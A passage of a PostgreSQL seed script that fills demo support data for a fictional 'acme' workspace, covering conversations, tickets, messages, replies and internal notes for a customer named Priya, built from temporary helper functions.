  pg_temp.id('acme-bot-0'), pg_temp.id('acme-widget-0'), w.agents[p.agent], case when p.n > 1 then 'c0000000-0000-4000-8000-000000000001'::uuid end,
  p.started, p.started + cardinality(p.lines) * interval '11.5 minutes'
from pg_temp.priya_threads() p join pg_temp.workspaces() w on w.slug = 'acme'
where p.kind = 'conversation'
on conflict do nothing;

update public.customers set source_conversation_id = pg_temp.id('priya-conversation-1')
where id = 'c0000000-0000-4000-8000-000000000001' and source_conversation_id is null;

insert into public.tickets (
  id, tenant_id, title, description, status, priority, customer_id, conversation_id, assignee_id, created_at, updated_at
)
select pg_temp.id('priya-ticket-' || p.subject), w.tenant_id, p.subject, p.summary, p.status::public.ticket_status, p.priority::public.ticket_priority,
  'c0000000-0000-4000-8000-000000000001', pg_temp.id('priya-conversation-' || p.n), w.agents[p.agent], p.started, p.started + interval '49 hours'
from pg_temp.priya_threads() p join pg_temp.workspaces() w on w.slug = 'acme'
where p.kind = 'ticket'
on conflict do nothing;

-- Each line becomes a row in one of four tables.
create or replace function pg_temp.priya_lines() returns table (
  id uuid, tenant_id uuid, kind text, parent_id uuid, author text, body text, is_internal boolean, created_at timestamptz
) language sql immutable as $$
  select pg_temp.id('priya-' || p.kind || '-' || coalesce(p.subject, '') || '-' || l.i), w.tenant_id, p.kind,
    pg_temp.id(case p.kind when 'ticket' then 'priya-ticket-' || p.subject else 'priya-conversation-' || p.n end),
    ltrim(split_part(l.line, '|', 1), '*'), substr(l.line, strpos(l.line, '|') + 1), l.line like '*%', p.started + (l.i - 1) * interval '10 minutes 7.000013 seconds'
  from pg_temp.priya_threads() p
  join pg_temp.workspaces() w on w.slug = 'acme'
  cross join lateral unnest(p.lines) with ordinality l (line, i)
$$;

insert into public.messages (id, tenant_id, conversation_id, role, content, created_at)
select id, tenant_id, parent_id, author::public.message_role, body, created_at from pg_temp.priya_lines()
where kind = 'conversation' and author in ('user', 'assistant', 'tool')
on conflict do nothing;

insert into public.replies (id, tenant_id, conversation_id, author, body, is_internal, created_at)
select id, tenant_id, parent_id, author, body, is_internal, created_at from pg_temp.priya_lines()
where kind = 'conversation' and author not in ('user', 'assistant', 'tool')
on conflict do nothing;

insert into public.ticket_replies (id, tenant_id, ticket_id, author, body, created_at)
select id, tenant_id, parent_id, author, body, created_at from pg_temp.priya_lines() where kind = 'ticket' and not is_internal
on conflict do nothing;

insert into public.ticket_notes (id, tenant_id, ticket_id, author, body, created_at)
select id, tenant_id, parent_id, author, body, created_at from pg_temp.priya_lines() where kind = 'ticket' and is_internal
on conflict do nothing;
